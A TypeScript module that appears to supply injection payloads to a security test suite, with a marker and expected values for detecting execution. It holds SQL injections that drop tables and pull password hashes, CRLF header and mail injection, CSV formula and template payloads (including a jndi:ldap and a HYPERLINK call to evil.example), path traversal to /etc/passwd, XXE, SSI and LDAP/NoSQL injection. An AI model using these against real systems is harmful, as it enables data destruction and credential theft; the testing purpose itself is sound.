/** A marker in every text below; a value with the marker came from the sender. */
export const MARK = 'zq7x';

/** The result of an expression in the texts below, when evaluated. */
export const RECKONED = '9801547';

/** A file on every server of this platform, and its first characters. */
export const SECRET_FILE = /root:[^:]*:0:0:/;

/**
 * Texts that an interpreter could execute: a database, a spreadsheet, a template, a log, a file system, HTTP headers.
 */
export const injections: Readonly<Record<string, readonly string[]>> = {
  sql: [
    `${MARK}' or '1'='1`,
    `${MARK}'; drop table supply; --`,
    `${MARK}"; drop table supply; --`,
    `${MARK}'); delete from person; --`,
    `${MARK}'; update person set active = false; --`,
    `${MARK}' union select password_hash from person_credential --`,
    `${MARK}'||(select version())||'`,
    `${MARK}'; select pg_sleep(5); --`,
    `${MARK}'||pg_sleep(5)||'`,
    `${MARK}\\'; drop table bill; --`,
    `${MARK}$$; drop table bill; $$`,
    `${MARK}' and 1=cast((select version()) as int) --`,
    `${MARK}'/**/or/**/1=1#`,
    `${MARK}%' or 1=1 --`,
    `${MARK}_%`,
    `${MARK}$1 :name ? @p1`,
    `${MARK}'::jsonb->>'x`,
    `1); create table injected_${MARK} (x int); --`,
  ],
  lines: [
    `${MARK}\r\nset-cookie: injected=1`,
    `${MARK}\nx-injected: 1`,
    `${MARK}\r\n\r\n<h1>injected</h1>`,
    `${MARK}%0d%0ax-injected:%201`,
    `${MARK}\u2028x-injected: 1`,
    `${MARK}\u0085x-injected: 1`,
    `${MARK}\r\nBcc: everybody@evil.example`,
    `${MARK}\r\n.\r\nMAIL FROM:<evil@evil.example>`,
  ],
  csv: [
    `=${MARK}+1337*7331`,
    `+${MARK}`,
    `-1337*7331+cmd|' /C calc'!${MARK}`,
    `@SUM(1337*7331)${MARK}`,
    `=HYPERLINK("https://evil.example/?${MARK}","x")`,
    `=cmd|'/C calc'!${MARK}`,
    `${MARK}";=1337*7331;"`,
    `;=1337*7331;${MARK}`,
  ],
  template: [
    `${MARK}\${1337*7331}`,
    `${MARK}{{1337*7331}}`,
    `${MARK}<%= 1337*7331 %>`,
    `${MARK}#{1337*7331}`,
    `${MARK}{{constructor.constructor('return 1337*7331')()}}`,
    `${MARK}\${jndi:ldap://evil.example/a}`,
    `${MARK}{{{name}}}{{&name}}`,
    `${MARK}$t(actions.retry) $t(x, {"a":1337*7331})`,
    `${MARK}%s%n%x %d %o`,
    `${MARK}$(id)\`id\`|id;id&&id`,
  ],
  log: [
    `${MARK}\n{"level":30,"msg":"signed in"}`,
    `${MARK}"}\n{"level":60,"msg":"injected"}`,
    `${MARK}\u001b[31mred\u001b[0m`,
    `${MARK}\u0008\u0008\u0008\u007f`,
    `${MARK}\u202ereversed`,
    `${MARK}\r200 OK`,
  ],
  path: [
    `../../../../../../etc/passwd?${MARK}`,
    `..\\..\\..\\windows\\win.ini${MARK}`,
    `/etc/passwd/${MARK}`,
    `file:///etc/passwd#${MARK}`,
    `....//....//etc/passwd${MARK}`,
    `..%2f..%2fetc%2fpasswd${MARK}`,
    `${MARK}/../../package.json`,
    `|cat /etc/passwd ${MARK}`,
    `php://filter/resource=/etc/passwd${MARK}`,
  ],
  markup: [
    `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>${MARK}&e;</x>`,
    `<!--#exec cmd="id" -->${MARK}`,
    `${MARK}<esi:include src="http://evil.example/"/>`,
    `*)(uid=*))(|(uid=${MARK}`,
    `{"$ne":"${MARK}"}`,
  ],
};

export const allInjections: readonly string[] = Object.values(injections).flat();
